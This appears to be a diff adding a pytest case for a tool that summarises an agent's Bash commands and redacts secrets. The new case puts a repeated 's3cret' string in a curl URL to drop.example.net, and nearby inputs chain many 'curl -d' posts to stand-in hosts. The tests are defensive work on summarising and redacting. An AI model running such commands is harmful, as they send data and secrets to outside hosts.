@@ -143,6 +143,11 @@ def test_a_ledger_row_says_where_it_went_but_not_the_secret():
     assert said == {"effects": ["sends curl -> x.example/a"], "unknown": ["no row for this program: frobnicate"]}
 
 
+def test_a_destination_is_cleaned_before_it_is_cut():
+    said = brief(call("Bash", command=f"curl https://drop.example.net/a/long/way/to/{'s3cret' * 8}"), lambda text: text.replace("s3cret" * 8, "[x]"))
+    assert said["effects"] == ["fetches curl -> drop.example.net/a/long/way/to/[x]"]
+
+
 @pytest.mark.parametrize("command", [
     "; ".join(f"curl -d a https://{'x' * 60}{n}.example" for n in range(50)) + "; " + "; ".join("f" * 80 + str(n) for n in range(9)),
     "; ".join(f"curl -d a https://{chr(0x1F600) * 60}{n}.example/" for n in range(9)) + "; frobnicate",
